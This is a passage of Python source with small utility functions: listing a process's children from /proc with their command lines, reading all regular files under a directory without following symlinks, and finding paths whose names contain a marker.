    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        fields = stat[stat.rfind(")") + 2:].split()
        if len(fields) > 1 and int(fields[1]) == pid:
            found.append(f"{entry}: {_printable(cmdline)}")
    return found


def files_under(root: Path) -> dict[str, bytes]:
    """Every regular file under ``root`` (relative path -> bytes), symlinks not followed."""
    out = {}
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.is_file() and not p.is_symlink():
                out[str(p.relative_to(root))] = p.read_bytes()
    return out


def paths_with(root: Path, marker: str) -> list[str]:
    """Paths under ``root`` (recursively, not following links) whose name holds ``marker``."""
    hits = []
    for dirpath, dirs, files in os.walk(root):
        hits += [os.path.join(dirpath, n) for n in dirs + files if marker in n]
    return hits
